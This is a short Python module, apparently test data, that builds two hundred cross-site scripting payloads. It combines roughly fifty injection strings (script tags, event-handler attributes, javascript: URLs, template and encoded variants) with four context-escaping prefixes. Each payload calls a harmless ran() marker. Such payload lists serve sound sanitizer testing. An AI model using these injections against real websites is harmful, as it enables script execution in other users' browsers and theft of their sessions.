"""Two hundred ways to make a page run what is only to be shown. Each would call ``ran()``."""

from __future__ import annotations

_RUNS = (
    "<script>ran()</script>", "<ScRiPt>ran()</sCrIpT>", "<script/x>ran()</script>",
    "<img src=x onerror=ran()>", "<img src=x onerror='ran()'>", '<img/src="x"/onerror="ran()">',
    "<svg onload=ran()>", "<svg/onload=ran()//", "<svg><script>ran()</script></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>", "<math><mi//xlink:href='javascript:ran()'>",
    "<body onload=ran()>", "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<iframe src=javascript:parent.ran()></iframe>", "<details open ontoggle=ran()>x</details>",
    "<input autofocus onfocus=ran()>", "<video><source onerror=ran()></video>",
    "<object data=javascript:ran()></object>", "<embed src=javascript:ran()>",
    "<a href=javascript:ran() autofocus onfocus=ran()>x</a>",
    "<form action=javascript:ran()><button autofocus onfocus=ran()>x</form>",
    "<style>@import 'javascript:ran()'</style>", "<style onload=ran()></style>",
    "<link rel=stylesheet href=data:,x onerror=ran() onload=ran()>",
    "<meta http-equiv=refresh content='0;url=javascript:ran()'>", "<base href=javascript:ran()//>",
    "<marquee onstart=ran()>x</marquee>", "<audio src=x onerror=ran()>",
    "<p style=animation-name:x onanimationstart=ran()>", "<textarea autofocus onfocus=ran()>",
    "<template><script>ran()</script></template><script>ran()</script>", "<script src=data:,ran()></script>",
    "<noscript><img src=x onerror=ran()></noscript>", "<keygen autofocus onfocus=ran()>",
    "<isindex action=javascript:ran() type=image>", "<select autofocus onfocus=ran()>",
    "javascript:ran()", "data:text/html,<script>parent.ran()</script>", "vbscript:ran()",
    "{{ran()}}", "${ran()}", "{% raw %}<script>ran()</script>{% endraw %}", "#{ran()}", "<%= ran() %>",
    "\\x3cscript\\x3eran()\\x3c/script\\x3e", "&lt;script&gt;ran()&lt;/script&gt;",
    "&#60;script&#62;ran()&#60;/script&#62;", "%3Cscript%3Eran()%3C/script%3E",
    "\uff1cscript\uff1eran()\uff1c/script\uff1e", "<\u200bscript>ran()</script><script\u2028>ran()</script>",
)  # fmt: skip
_ESCAPES = ("", "\"'>", "</title></style></textarea></script>", "--></p>")
"""What gets out of the place that a text stands in."""

PAYLOADS = tuple(f"{escape}{runs}" for escape in _ESCAPES for runs in _RUNS)
